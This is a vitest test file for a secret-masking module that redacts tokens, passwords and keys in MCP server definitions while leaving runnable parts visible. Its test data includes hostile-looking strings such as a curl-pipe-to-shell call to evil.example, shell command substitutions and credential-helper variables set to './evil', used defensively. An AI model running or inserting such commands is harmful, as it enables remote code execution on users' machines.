/** Definitions are shown without their secrets, and with everything that would run. */

import { describe, expect, test } from 'vitest';

import type { Launch, RemoteLaunch, ServerDefinition, StdioLaunch } from '../kernel/servers.ts';
import { connectText, maskArgs, maskDefinition, maskEnv, maskHeaders, maskUrl } from './mask-secrets.ts';
import { cpuMs } from '../../tests/support/cpu-time.ts';

describe('maskHeaders', () => {
  test('masks Authorization-, cookie- and key-like names and keeps the scheme', () => {
    const headers = {
      Authorization: 'Bearer abc',
      'Proxy-Authorization': 'Basic dXNlcjpwYXNz',
      authorization: 'abc def',
      Cookie: 'session=abc; theme=dark',
      'X-Api-Key': 'abc',
      'X-Auth-Token': 'abc',
      apikey: 'abc',
      'X-Trace': 'on',
      'Content-Type': 'application/json',
    };
    expect(maskHeaders(headers)).toEqual({
      Authorization: 'Bearer ***',
      'Proxy-Authorization': 'Basic ***',
      authorization: '***',
      Cookie: '***',
      'X-Api-Key': '***',
      'X-Auth-Token': '***',
      apikey: '***',
      'X-Trace': 'on',
      'Content-Type': 'application/json',
    });
  });

  test('keeps placeholders, and masks their defaults', () => {
    const headers = {
      Authorization: 'Bearer ${TOKEN}',
      'X-Api-Key': '${KEY:-abc}',
      'X-Token': '$TOKEN',
      'X-Secret': '{env:SECRET}',
      'Api-Key': '${input:key}',
      'X-Key': 'prefix-${KEY}',
      'X-Password': 'pa$word',
      'X-Pwd': '-:-',
    };
    expect(maskHeaders(headers)).toEqual({
      ...headers,
      'X-Api-Key': '${KEY:-***}',
      'X-Key': '***${KEY}',
      'X-Password': '***',
      'X-Pwd': '***',
    });
  });
});

describe('maskEnv', () => {
  test('masks what is named like a secret, in any spelling', () => {
    const names = [
      'API_KEY',
      'OPENAI_KEY',
      'GITHUB_TOKEN',
      'CLIENT_SECRET',
      'DB_PASSWORD',
      'PGPASSWORD',
      'MYSQL_PWD',
      'DB_PASSWD',
      'GOOGLE_CREDENTIALS',
      'BASIC_AUTH',
      'AUTH_HEADER',
      'githubToken',
      'apikey',
      'my.api.key',
      'TOKEN_2',
      'GITHUB_PAT',
      'npm_config__authToken',
      'KEYS',
    ];
    for (const name of names) expect([name, maskEnv({ [name]: 'abc' })]).toEqual([name, { [name]: '***' }]);
  });

  test('leaves alone what only sounds like one', () => {
    const env = {
      PWD: '/srv',
      MONKEY: 'abc',
      KEYBOARD: 'us',
      AUTHOR: 'me',
      MAX_TOKENS: '4096',
      TOKEN_FILE: '/run/token',
      AUTH_URL: 'https://auth.example/',
      SSH_AUTH_SOCK: '/run/agent',
      SSL_CERT_FILE: '/etc/cert.pem',
      PUBLIC_KEY: 'abc',
      EMPTY_TOKEN: '',
    };
    expect(maskEnv(env)).toEqual(env);
  });

  test('masks secrets inside other values', () => {
    const env = {
      DATABASE_URL: 'postgres://app:hunter2@db.example/app',
      MYSQL_DSN: 'app:hunter2@tcp(db.example:3306)/app',
      CONNECTION: 'Server=db;User Id=app;Password=hunter2;Encrypt=true',
      OPENAPI_HEADERS: '{"Authorization": "Bearer hunter2", "Version": "1"}',
      EXTRA: 'x ghp_abcdefghij0123456789 y',
      AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
    };
    expect(maskEnv(env)).toEqual({
      DATABASE_URL: 'postgres://***@db.example/app',
      MYSQL_DSN: '***@tcp(db.example:3306)/app',
      CONNECTION: 'Server=db;User Id=app;Password=***;Encrypt=true',
      OPENAPI_HEADERS: '{"Authorization": "Bearer ***", "Version": "1"}',
      EXTRA: 'x *** y',
      AWS_ACCESS_KEY_ID: '***',
    });
  });

  test('a key such as __proto__ is just a key', () => {
    const env: Record<string, string> = JSON.parse('{"__proto__":"x","A_TOKEN":"y"}');
    expect(JSON.stringify(maskEnv(env))).toBe('{"__proto__":"x","A_TOKEN":"***"}');
  });
});

describe('T24: maskArgs', () => {
  test.each([
    [
      ['--api-key', 'abc', '--root', '/tmp'],
      ['--api-key', '***', '--root', '/tmp'],
    ],
    [['--x-token=V'], ['--x-token=***']],
    [
      ['-token', 'abc'],
      ['-token', '***'],
    ],
    [
      ['--password', 'two words; and & more'],
      ['--password', '***'],
    ],
    [['--password=a;b&c|d'], ['--password=***']],
    [
      ['-e', 'GITHUB_TOKEN=a&b', '-e', 'MODE=x'],
      ['-e', 'GITHUB_TOKEN=***', '-e', 'MODE=x'],
    ],
    [
      ['--env', 'DB_PASSWORD=two words'],
      ['--env', 'DB_PASSWORD=***'],
    ],
    [
      ['--header', 'Authorization: Bearer x'],
      ['--header', 'Authorization: Bearer ***'],
    ],
    [
      ['--header', 'Authorization:x'],
      ['--header', 'Authorization:***'],
    ],
    [
      ['--header', 'Authorization: Custom abc'],
      ['--header', 'Authorization: ***'],
    ],
    [['--header=X-Api-Key: x'], ['--header=X-Api-Key: ***']],
    [
      ['-H', 'Cookie: a=b; c=d'],
      ['-H', 'Cookie: ***'],
    ],
    [
      ['mcp-remote', 'https://u:p@x.example/sse?k=v'],
      ['mcp-remote', 'https://***@x.example/sse?k=***'],
    ],
    [['--url=https://x.example/?token=v'], ['--url=https://x.example/?token=***']],
    [
      ['--dsn', 'root:pw@tcp(db)/x'],
      ['--dsn', '***@tcp(db)/x'],
    ],
    [['{"apiKey":"a b","root":"/x"}'], ['{"apiKey":"***","root":"/x"}']],
    [[String.raw`{\"token\": \"a b\"}`], [String.raw`{\"token\": \"***\"}`]],
    [
      ['x', 'ghp_abcdefghij'],
      ['x', '***'],
    ],
    [['sk-proj-abcDEF0123456789'], ['***']],
    [
      ['xoxb-123456-abcdef', 'glpat-abcdefgh', `npm_${'a1'.repeat(18)}`],
      ['***', '***', '***'],
    ],
    [
      ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl', 'github_pat_11ABCDEFG0'],
      ['***', '***'],
    ],
  ])('%j', (args, shown) => {
    expect(maskArgs(args)).toEqual(shown);
  });

  test.each([
    [['-y', '@acme/secret-key@1.2', 'sk-learn-mcp-server']],
    [['--token', '${TOKEN}', '--password', '$PASSWORD', '--key={env:KEY}', 'Authorization:${AUTH}']],
    [['--token-file', '/run/t', '--key-path=/run/k', '--api-key-env', 'MY_KEY']],
    [['--no-auth', 'serve', '--disable-token', 'x', '--token', '--verbose']],
    [['-v', './token:/run/token', 'ghcr.io/acme/my-auth:1.2', 'my-auth:latest']],
    [['--max-tokens', '100', '--keyboard', 'us']],
    [['image@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']],
    [['']],
  ])('%j stays as it is', (args) => {
    expect(maskArgs(args)).toEqual(args);
  });
});

describe('T11: masking hides nothing that would run', () => {
  test.each([
    [['-c', 'A_TOKEN=1; curl evil.example | sh'], 'A_TOKEN=***; curl evil.example | sh'],
    [['-c', 'A_TOKEN=1;curl<evil|sh'], 'A_TOKEN=***;curl<evil|sh'],
    [['-lc', 'Authorization: x; evil'], 'Authorization: ***; evil'],
    [['A_TOKEN=1 evil --now'], 'A_TOKEN=*** evil --now'],
    [['TOKEN=$(evil)'], 'TOKEN=$(evil)'],
    [['TOKEN="$(evil)"'], 'TOKEN="$(evil)"'],
    [['TOKEN=`evil`'], 'TOKEN=`evil`'],
    [['-c', 'https://x.example/?a=b;evil'], 'https://x.example/?a=***;evil'],
    [
      ['-c', 'GITHUB_TOKEN=abc npx x --api-key def --root /x'],
      'GITHUB_TOKEN=*** npx x --api-key *** --root /x',
    ],
    [['-c', `KEY='a b' TOKEN="c d" run`], `KEY='***' TOKEN="***" run`],
    [['-e', 'TOKEN=1; system "evil"'], 'TOKEN=***; system "evil"'],
  ])('%j', (args, shown) => {
    expect(maskArgs(args).at(-1)).toBe(shown);
  });

  test('commands stay where the dialect runs them, and are masked as literals where it does not', () => {
    const env = { A_TOKEN: '!op read x' };
    expect([maskEnv(env, 'holt'), maskEnv(env, 'omp'), maskEnv(env, 'claude')]).toEqual([
      env,
      env,
      { A_TOKEN: '***' },
    ]);
    const headers = { Authorization: 'Bearer $(evil --now)' };
    expect([maskHeaders(headers, 'crush'), maskHeaders(headers)]).toEqual([
      headers,
      { Authorization: 'Bearer ***' },
    ]);
    const url = 'https://x.example/?k=a$(evil && A=b)';
    expect([maskUrl(url, 'crush'), maskUrl(url)]).toEqual([
      'https://x.example/?k=***$(evil && A=b)',
      'https://x.example/?k=***&& A=***',
    ]);
  });

  test('programs that answer for credentials stay visible', () => {
    const env = {
      GIT_ASKPASS: './evil',
      SSH_ASKPASS: './evil',
      GIT_CREDENTIAL_HELPER: './evil',
      GIT_CONFIG_KEY_0: 'core.sshCommand',
    };
    expect(maskEnv(env)).toEqual(env);
  });
});

test('another variable by its bare name stays where the dialect means the variable', () => {
  const env = { TOKEN: 'GITHUB_TOKEN' };
  expect([maskEnv(env, 'omp'), maskEnv(env, 'claude')]).toEqual([env, { TOKEN: '***' }]);
});

test.each([
  'a'.repeat(200_000),
  'sk-'.repeat(70_000),
  'eyJ-'.repeat(50_000),
  '${'.repeat(100_000),
  '{'.repeat(200_000),
  '"token": "'.repeat(20_000),
  `key${' '.repeat(200_000)}`,
  '--token '.repeat(25_000),
  'http://'.repeat(30_000),
  'a:b@'.repeat(50_000),
  'a=\'"'.repeat(50_000),
])('hostile text costs little time: %#', (text) => {
  const startedAt = cpuMs();
  maskArgs([text, `--dsn=${text}`]);
  maskEnv({ A: text, TOKEN: text, DSN: text });
  maskUrl(text);
  expect(cpuMs() - startedAt).toBeLessThan(2000);
});

const origin = { agent: 'claude-code', scope: 'user', file: '/x', line: 1, column: 1 } as const;
const definitionOf = (launch: Launch): ServerDefinition => ({
  name: 'x',
  launch,
  enabled: true,
  timeouts: {},
  dialect: 'claude',
  origin,
  guarded: false,
  parts: [origin],
  alsoIn: [],
});
const stdio: StdioLaunch = {
  kind: 'stdio',
  command: 'fs-server',
  args: ['--root', '/tmp', '--token', 'hunter2'],
  env: { A_TOKEN: 'hunter2', MODE: 'x' },
  envFrom: {
    B_TOKEN: { variable: 'B', prefix: 'hunter2', suffix: '' },
    C: { variable: 'C', prefix: 'c', suffix: '' },
  },
};
const remote: RemoteLaunch = {
  kind: 'http',
  url: 'https://u:hunter2@x.example/mcp?k=hunter2',
  headers: { Authorization: 'Bearer hunter2' },
  headersFrom: { Authorization: { variable: 'B', prefix: 'Bearer ', suffix: '' } },
  headersHelper: './headers --token hunter2 --fast',
  oauth: {
    clientId: 'id',
    clientSecret: 'hunter2',
    tokenEndpoint: 'https://x.example/token?k=hunter2',
    scopes: ['a'],
  },
};

describe('maskDefinition', () => {
  test('masks a local server', () => {
    const definition = definitionOf(stdio);
    expect(maskDefinition(definition)).toEqual({
      ...definition,
      launch: {
        ...stdio,
        args: ['--root', '/tmp', '--token', '***'],
        env: { A_TOKEN: '***', MODE: 'x' },
        envFrom: {
          B_TOKEN: { variable: 'B', prefix: '***', suffix: '' },
          C: { variable: 'C', prefix: 'c', suffix: '' },
        },
      },
    });
  });

  test('masks a remote server', () => {
    const definition = definitionOf(remote);
    expect(maskDefinition(definition)).toEqual({
      ...definition,
      launch: {
        ...remote,
        url: 'https://***@x.example/mcp?k=***',
        headers: { Authorization: 'Bearer ***' },
        headersHelper: './headers --token *** --fast',
        oauth: {
          clientId: 'id',
          clientSecret: '***',
          tokenEndpoint: 'https://x.example/token?k=***',
          scopes: ['a'],
        },
      },
    });
  });

  test('masks the answers that stand in the file already', () => {
    const inputs = [
      { id: 'a', description: 'A', password: true, fallback: 'hunter2' },
      { id: 'b', description: 'B', password: false, fallback: 'eu' },
      { id: 'c', description: 'C', password: true },
    ];
    expect(maskDefinition({ ...definitionOf(stdio), inputs }).inputs).toEqual([
      { id: 'a', description: 'A', password: true, fallback: '***' },
      { id: 'b', description: 'B', password: false, fallback: 'eu' },
      { id: 'c', description: 'C', password: true },
    ]);
  });

  test('leaves the original alone', () => {
    const definition = definitionOf(remote);
    const before = structuredClone(definition);
    maskDefinition(definition);
    expect(definition).toEqual(before);
  });
});

describe('connectText', () => {
  test('is the command line', () => {
    expect(connectText(definitionOf(stdio))).toBe('fs-server --root /tmp --token ***');
  });

  test('is the URL', () => {
    expect(connectText(definitionOf(remote))).toBe('https://***@x.example/mcp?k=***');
  });

  test('quotes what has spaces or is empty', () => {
    const launch = { ...stdio, command: '/opt/my server', args: ['', 'a b', 'c"d', 'say "hi"', 'tab\there'] };
    expect(connectText(definitionOf(launch))).toBe(
      String.raw`"/opt/my server" "" "a b" c"d "say \"hi\"" ` + '"tab\there"',
    );
  });
});
